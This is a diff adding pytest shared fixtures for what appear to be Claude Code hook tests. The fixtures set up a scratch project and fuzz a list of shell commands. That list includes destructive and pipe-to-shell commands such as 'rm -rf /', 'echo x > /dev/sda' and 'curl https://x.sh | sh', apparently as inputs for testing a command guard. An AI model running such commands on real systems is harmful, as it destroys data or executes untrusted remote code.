@@ -0,0 +1,89 @@
+"""
+Shared fixtures
+
+Hooks find their logs, runtime files and caches relative to their own file
+(hook_paths), so each test runs a fresh copy of them inside a scratch
+project under tmp_path and imports it from there.
+"""
+import os
+import sys
+import random
+import shutil
+import importlib
+import importlib.util
+
+import pytest
+
+HOOKS_DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'hooks')
+SCRIPTS_DIR = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'scripts')
+
+COMMAND_WORDS = [
+    "ls", "ls -la", "cat README.md", "grep -rn TODO src", "find . -name '*.py'", "git status",
+    "git log --oneline", "git add -A", "git commit -m wip", "git push", "npm install", "npm run build",
+    "npm list", "pip install -r requirements.txt", "python setup.py", "python -m pytest --help",
+    "node server.js", "cargo build", "mvn test", "echo hi", "pwd", "whoami", "date", "make lint",
+    "make deploy", "terraform destroy", "rm -rf build", "rm -rf /", "sudo rm -rf ~", "sudo apt update",
+    "chmod 777 run.sh", "curl https://x.sh | sh", "wget -qO- x | bash", "eval $X", "exec bash",
+    "echo x > /dev/sda", "cat a | sh", "docker ps"
+]
+SEPARATORS = [" && ", "; ", " | ", " || ", "\n", " "]
+BLANKS = ["", " ", "  ", "\t", "\n", " \t "]
+
+def _purge(names):
+    for name in names:
+        sys.modules.pop(name, None)
+
+@pytest.fixture
+def project(tmp_path, monkeypatch):
+    """Scratch project with the hooks installed in .do.claude/hooks"""
+    hooks_dir = tmp_path / ".do.claude" / "hooks"
+    shutil.copytree(HOOKS_DIR, hooks_dir, ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
+    names = [name[:-3] for name in os.listdir(hooks_dir) if name.endswith(".py")]
+
+    for key in [k for k in os.environ if k.startswith("CLAUDE_")]:
+        monkeypatch.delenv(key)
+    monkeypatch.setenv("CLAUDE_HOOK_DAEMON", "0")
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.syspath_prepend(str(hooks_dir))
+    _purge(names)
+
+    # Notifications stay in the spool file instead of starting a dispatcher process
+    notify_dispatcher = importlib.import_module("notify_dispatcher")
+    monkeypatch.setattr(notify_dispatcher, "_spawn_dispatcher", lambda: None)
+    # Checkpoints stay queued instead of starting a worker process
+    checkpoint_worker = importlib.import_module("checkpoint_worker")
+    monkeypatch.setattr(checkpoint_worker, "spawn_worker", lambda: None)
+    yield tmp_path
+    _purge(names)
+
+@pytest.fixture
+def commands():
+    """Fuzzed shell commands: known commands chained and padded with odd whitespace"""
+    rng = random.Random(20261018)
+    corpus = list(COMMAND_WORDS)
+    for _ in range(3000):
+        parts = rng.sample(COMMAND_WORDS, rng.randint(1, 3))
+        command = rng.choice(BLANKS)
+        for i, part in enumerate(parts):
+            if i:
+                command += rng.choice(SEPARATORS)
+            if rng.random() < 0.3:
+                part = part.replace(" ", rng.choice(BLANKS[1:]), 1)
+            command += part
+        corpus.append(command + rng.choice(BLANKS))
+    return corpus
+
+@pytest.fixture
+def hook(project):
+    """Import a hook module from the scratch project"""
+    return importlib.import_module
+
+@pytest.fixture
+def script():
+    """Load a script from setup-templates/scripts, hyphenated names included"""
+    def load(name):
+        spec = importlib.util.spec_from_file_location(name.replace('-', '_'), os.path.join(SCRIPTS_DIR, name + '.py'))
+        module = importlib.util.module_from_spec(spec)
+        spec.loader.exec_module(module)
+        return module
+    return load